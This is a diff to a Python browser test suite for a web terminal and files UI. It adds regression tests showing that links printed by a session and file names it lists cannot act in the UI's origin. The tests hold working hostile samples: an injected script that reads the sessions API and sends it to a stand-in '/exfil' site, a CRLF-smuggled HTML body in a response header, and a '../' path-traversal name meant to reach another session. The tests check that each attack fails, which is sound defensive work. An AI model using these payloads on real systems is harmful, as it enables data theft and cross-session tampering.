@@ -19,9 +19,10 @@ import pytest
 
 from cdp import Browser
 from serve_harness import (  # noqa: F401  (fixtures)
-    ROOT, ServeProcess, browser, log_in, managed_workload, serve_factory, session_containers,
-    wait_until,
+    ROOT, LoopbackSite, ServeProcess, browser, log_in, managed_workload, serve_factory,
+    session_containers, wait_until,
 )
+from standin_agent import StandInAgent, control_socket
 
 pytestmark = pytest.mark.docker
 ARTIFACTS = ROOT / "test-artifacts" / "serve-ui"
@@ -167,15 +168,12 @@ def test_every_screen_in_chromium(serve_factory: Callable[..., ServeProcess], do
     assert seen[2] == "" and not any("/login" in url for url in entries)
 
 
-#: Counts, in the page, every EventSource opened and every GET of one session's record.
+#: Counts, in the page, every stream opened and every GET of one session's record.
 COUNT_STREAMS_AND_GETS = """
 window.reployTest = { streams: 0, gets: 0 };
-const NativeEventSource = window.EventSource;
-window.EventSource = class extends NativeEventSource {
-  constructor(...args) { super(...args); window.reployTest.streams++; }
-};
 const nativeFetch = window.fetch;
 window.fetch = (input, init) => {
+  if (/\\/sessions\\/[0-9a-f]{16}\\/stream\\?/.test(String(input))) window.reployTest.streams++;
   if (/\\/sessions\\/[0-9a-f]{16}$/.test(String(input)) && (!init || (init.method || "GET") === "GET")) {
     window.reployTest.gets++;
   }
@@ -339,3 +337,163 @@ def test_files_panel_in_chromium(serve_factory: Callable[..., ServeProcess], doc
     fill(browser, "[data-test=files-root]", "home")
     browser.wait_for("document.querySelector('[data-test=files-entries]').textContent.includes('Empty folder.')",
                      "the empty home")
+
+
+# -- issue 21: what a session prints or names cannot act in the UI's origin --------------------
+
+#: The bounding box centre of the last on-screen occurrence of a text in the terminal (xterm.js's
+#: DOM renderer), for a real mouse click there.
+TEXT_CENTRE = """((needle) => { const rows = document.querySelector('.xterm-rows'); if (!rows) return null;
+  const walker = document.createTreeWalker(rows, NodeFilter.SHOW_TEXT); let found = null;
+  while (walker.nextNode()) { const node = walker.currentNode, at = node.textContent.indexOf(needle);
+    if (at >= 0 && !node.textContent.includes('printf')) found = [node, at]; }
+  if (!found) return null; const range = document.createRange();
+  range.setStart(found[0], found[1]); range.setEnd(found[0], found[1] + needle.length);
+  const box = range.getBoundingClientRect(); return [box.x + box.width / 2, box.y + box.height / 2]; })"""
+
+#: Records what the page asks (confirm) and opens (window.open), answering as a user who says
+#: yes to everything: the worst case.
+RECORD_DIALOGS = """window.reployAsked = []; window.reployOpened = [];
+window.confirm = (text) => { window.reployAsked.push(text); return true; };
+window.open = (...args) => { window.reployOpened.push(args); return null; };"""
+
+
+def click_text(browser: Browser, text: str) -> None:
+    """Moves the mouse onto `text` on the terminal's screen (from outside the terminal: xterm.js
+    finds a link as the pointer enters it) and clicks it."""
+    x, y = browser.wait_for(f"({TEXT_CENTRE})({json.dumps(text)})", f"{text!r} on the screen")
+    browser.call("Input.dispatchMouseEvent", type="mouseMoved", x=1, y=1)  # from outside, as a hand does
+    for kind in ("mouseMoved", "mouseMoved", "mousePressed", "mouseReleased"):
+        browser.call("Input.dispatchMouseEvent", type=kind, x=x, y=y, clickCount=1,
+                     button="none" if kind == "mouseMoved" else "left")
+
+
+def test_a_link_the_session_prints_never_opens_this_server(
+        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
+    """Attack 1 in the browser: the workload prints an OSC 8 hyperlink to a download of its own
+    (whose agent, the stand-in here, answers with a page smuggled into a header) and the user
+    clicks it; or the user pastes that URL. The terminal refuses links to this server; a pasted
+    URL carries no credential, and even with one the answer is a sandboxed JSON error: the
+    page's script never runs and nothing reaches the hostile site."""
+    server = serve_factory()
+    url, api = server.ready["url"], server.api
+    sid = api.create("printer")["id"]
+    api.wait_output(sid, b"$ ")
+    with LoopbackSite() as site:
+        script = ("<script>fetch('/api/v1/sessions').then(r => r.text()).then(t => {"
+                  f"new Image().src = {json.dumps(site.url)} + '/exfil?' + encodeURIComponent(t);"
+                  "document.title = 'pwned'; })</script>")
+        stand = StandInAgent(control_socket(server.state_dir, sid))
+        try:
+            stand.answers["download"] = {"transfer_id": "ab" * 8, "kind": "file",
+                                         "size": f"{len(script)}\r\nContent-Type: text/html\r\n\r\n{script}",
+                                         "entry": {"name": "report.html", "type": "file", "size": 1,
+                                                   "mode": 420, "mtime": 0}}
+            own = f"{url}/api/v1/sessions/{sid}/files/report.html"
+            elsewhere = site.publish("/landing", "text/html", b"<title>landing</title>")
+            printed = "".join(f"\\033]8;;{link}\\033\\\\{label}\\033]8;;\\033\\\\ " for link, label in (
+                (own, "own-link"), (own.replace("127.0.0.1", "localhost"), "alias-link"),
+                (elsewhere, "other-link")))
+            api.write(sid, f"printf '{printed}\\n%s\\n' '{own}'\r".encode())
+            api.wait_output(sid, b"other-link")
+            log_in(browser, server)
+            browser.navigate(f"{url}/#/s/{sid}")
+            browser.wait_for("!!window.reployTerminal", "the terminal")
+            browser.evaluate(RECORD_DIALOGS)
+
+            for label in ("own-link", "alias-link"):
+                click_text(browser, label)
+                browser.wait_for("document.querySelector('[data-test=statusline]').textContent"
+                                 ".includes('refused a link')", f"the {label} refused")
+                browser.evaluate("document.querySelector('[data-test=statusline]').textContent = ''")
+            click_text(browser, own[-30:])  # the plain URL: the terminal makes no link of it
+            click_text(browser, "other-link")
+            opened = browser.wait_for("window.reployOpened.length && window.reployOpened", "the other link")
+            assert opened == [[elsewhere, "_blank", "noopener,noreferrer"]]
+            assert len(browser.evaluate("window.reployAsked")) == 1  # asked for it, and only it
+            assert stand.count("download") == 0
+
+            # Pasted into the address bar: no credential goes along.
+            browser.call("Network.enable")
+            browser.navigate(own)
+            browser.wait_for("document.readyState === 'complete'", "the pasted URL")
+            assert '"error"' in browser.evaluate("document.body.textContent")
+            # Even with the credential (the worst case): serve refuses the answer, and its error
+            # is sandboxed JSON.
+            browser.call("Network.setExtraHTTPHeaders", headers={"Authorization": f"Bearer {server.ready['token']}"})
+            browser.navigate(own)
+            browser.wait_for("document.readyState === 'complete' && document.body.textContent.includes('error')",
+                             "the refused download")
+            browser.call("Network.setExtraHTTPHeaders", headers={})
+            answers = [e["params"] for e in browser.events if e["method"] == "Network.responseReceived"
+                       and e["params"]["response"]["url"] == own]
+            assert [a["response"]["status"] for a in answers] == [401, 502]
+            for response in (a["response"] for a in answers):
+                headers = {k.lower(): v for k, v in response["headers"].items()}
+                assert headers["content-type"] == "application/json"
+                assert headers["content-security-policy"] == "default-src 'none'; sandbox"
+            assert stand.count("download") == 1
+            assert browser.evaluate("document.title") != "pwned"
+            assert site.requests == []  # no exfiltration, and the other link was never really opened
+        finally:
+            stand.close()
+
+
+def test_a_name_from_the_session_never_leads_the_files_panel_elsewhere(
+        serve_factory: Callable[..., ServeProcess], docker_engine: Any, browser: Browser) -> None:
+    """Attack 2: the session lists an entry named `../../OTHER/files/drop`; the Files panel
+    built an upload URL from it and the browser resolved the `..` into another session. serve
+    refuses such a listing (502); and the panel, given one anyway, shows the name as refused,
+    builds no URL from it, and its uploads stay in the folder shown."""
+    server = serve_factory()
+    url, api = server.ready["url"], server.api
+    sid = api.create("lister")["id"]
+    other = api.create("other")["id"]
+    assert api.call("POST", f"/sessions/{other}/exec", {"argv": ["mkdir", "drop"]})["exitCode"] == 0
+    evil = f"../../{other}/files/drop"
+    stand = StandInAgent(control_socket(server.state_dir, sid))
+    try:
+        stand.answers["list"] = lambda r: {
+            "root": "workspace", "path": ".", "total": 1, "next_offset": 1,
+            "entry": {"name": ".", "type": "directory", "size": 0, "mode": 0o755, "mtime": 0},
+            "entries": [{"name": evil, "type": "directory", "size": 0, "mode": 0o755, "mtime": 0}]}
+        log_in(browser, server)
+        browser.navigate(f"{url}/#/s/{sid}")
+        browser.wait_for("!!window.reployTerminal", "the terminal")
+        click(browser, "[data-test=files] summary")
+        browser.wait_for("document.querySelector('[data-test=files-status]').textContent"
+                         ".includes('one path component')", "the refused listing")
+        assert not browser.evaluate("document.querySelectorAll('[data-test=files-dir]').length")
+        stand.answers.clear()
+
+        # The panel's own check, for a listing that got through anyway.
+        for name in ("..", ".", "a/b", "a\nb", "\x7f", evil):
+            assert browser.evaluate(f"isEntryName({json.dumps(name)})") is False, name
+        for path in ("x/..", "./x", "x/a\nb", evil):  # a path: every component one name
+            thrown = browser.evaluate(f"(() => {{ try {{ encodePath({json.dumps(path)}); return null; }}"
+                                      " catch (e) { return e.message; } })()")
+            assert thrown and "refused" in thrown, path
+        assert browser.evaluate("encodePath('a b/%2e%2e/c#?')") == "a%20b/%252e%252e/c%23%3F"
+        browser.evaluate("""(() => { const native = window.fetch;
+            window.fetch = async (input, init) => String(input).includes("/list/")
+              ? new Response(JSON.stringify({ root: "workspace", path: "", truncated: false,
+                  entry: { name: ".", type: "directory", size: 0, mode: 493, mtime: 0 },
+                  entries: [{ name: EVIL, type: "directory", size: 0, mode: 493, mtime: 0 }] }),
+                  { headers: { "Content-Type": "application/json" } })
+              : native(input, init); })()""".replace("EVIL", json.dumps(evil)))
+        click(browser, "[data-test=files-refresh]")
+        browser.wait_for("document.querySelector('[data-test=files-entries]').textContent.includes('refused name')",
+                         "the name shown as refused")
+        assert not browser.evaluate("document.querySelectorAll('[data-test=files-dir], [data-test=files-file]').length")
+        browser.evaluate("""(() => { const data = new DataTransfer();
+            data.items.add(new File(["dropped by the files panel\\n"], "planted.txt"));
+            document.querySelector("[data-test=files-drop]").dispatchEvent(
+              new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true })); })()""")
+        browser.wait_for("document.querySelector('[data-test=files-status]').textContent.includes('uploaded planted.txt')",
+                         "the upload into the folder shown")
+    finally:
+        stand.close()
+    mine = api.call("POST", f"/sessions/{sid}/exec", {"argv": ["cat", "planted.txt"]})
+    theirs = api.call("POST", f"/sessions/{other}/exec", {"argv": ["ls", "-A", "drop"]})
+    assert mine["stdout"] == "dropped by the files panel\n"
+    assert (theirs["exitCode"], theirs["stdout"]) == (0, "")
